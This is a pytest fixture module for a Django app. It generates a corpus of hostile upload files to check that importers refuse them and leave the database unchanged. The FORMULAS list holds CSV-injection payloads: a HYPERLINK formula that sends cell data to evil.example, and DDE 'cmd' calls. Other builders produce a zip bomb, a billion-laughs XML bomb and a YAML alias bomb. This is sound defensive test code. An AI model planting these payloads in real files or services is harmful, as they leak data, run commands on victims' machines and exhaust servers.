"""The bad-input corpus: hostile files for every importer, built in code (nothing big is
committed), and the row-count snapshot that proves a refused file changed nothing.

Test modules parametrize over case names and ask the ``corpus`` fixture for the bytes.
"""

import csv
import io
import random
import zipfile

import openpyxl
import pytest
from django.apps import apps

# Cells that a spreadsheet would run as formulas (OWASP "CSV injection").
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]


def row_counts() -> dict[str, int]:
    """Rows of every model of every installed app."""
    return {m._meta.label: m._default_manager.count() for m in apps.get_models()}


class Corpus:
    """Builders of hostile bytes. Everything is small or made small by lowering the caps."""

    formulas = FORMULAS

    @staticmethod
    def csv(rows, *, encoding="utf-8", delimiter=",") -> bytes:
        out = io.StringIO()
        csv.writer(out, delimiter=delimiter, lineterminator="\n").writerows(rows)
        return out.getvalue().encode(encoding)

    @staticmethod
    def xlsx(rows) -> bytes:
        wb = openpyxl.Workbook()
        ws = wb.active
        for row in rows:
            ws.append(row)
        for line in ws.iter_rows():  # formulas stay text, as a form tool exports them
            for cell in line:
                if cell.data_type == "f":
                    cell.data_type = "s"
        buf = io.BytesIO()
        wb.save(buf)
        return buf.getvalue()

    @staticmethod
    def mojibake(text: str) -> str:
        """UTF-8 read as Windows-1252: "Pérez" → "PÃ©rez"."""
        return text.encode("utf-8").decode("cp1252")

    @staticmethod
    def mixed_encodings(lines: list[str], latin1_line: int) -> bytes:
        """UTF-8 lines with one line (1-based) in Latin-1: invalid UTF-8 in a UTF-8 file."""
        return b"".join((line.encode("latin-1") if n == latin1_line else line.encode("utf-8"))
                        + b"\n" for n, line in enumerate(lines, start=1))

    @staticmethod
    def garbage(n: int = 4096) -> bytes:
        return random.Random(20240601).randbytes(n)

    @staticmethod
    def zip(members: dict[str, bytes]) -> bytes:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data in members.items():
                zf.writestr(name, data)
        return buf.getvalue()

    @classmethod
    def zip_not_xlsx(cls) -> bytes:
        return cls.zip({"hello.txt": b"just a zip", "data.csv": b"a,b\n1,2\n"})

    @classmethod
    def broken_xlsx(cls) -> bytes:
        """Has [Content_Types].xml but no workbook openpyxl can read."""
        return cls.zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<nope"})

    @classmethod
    def zip_bomb(cls, expanded: int) -> bytes:
        """An XLSX-looking archive whose members expand to ``expanded`` bytes (compressed,
        a few kB)."""
        return cls.zip({"[Content_Types].xml": b"<Types/>",
                        "xl/worksheets/sheet1.xml": b" " * expanded})

    @staticmethod
    def billion_laughs(root: str) -> str:
        entities = ['<!ENTITY lol0 "lol">'] + [
            f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
        return (f'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n{chr(10).join(entities)}\n]>\n'
                f"{root.replace('BODY', '&lol9;')}")

    @staticmethod
    def yaml_alias_bomb() -> str:
        lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
        for i, name in enumerate("bcdefghi"):
            prev = "abcdefghi"[i]
            lines.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
        lines.append("sectors: *i")
        return "\n".join(lines) + "\n"


@pytest.fixture
def corpus():
    return Corpus


@pytest.fixture
def counts():
    """``counts()`` → rows of every model; compare before and after a refused import."""
    return row_counts


@pytest.fixture
def small_cap(settings):
    """Upload cap lowered to 10 kB, so 'huge' files stay small and tests stay fast."""
    settings.MAX_UPLOAD_MB = 10 / 1024
    return 10 * 1024


@pytest.fixture(autouse=True)
def english():
    """Messages are checked in English (msgids); the Spanish catalog is checked elsewhere."""
    from django.utils import translation

    with translation.override("en"):
        yield
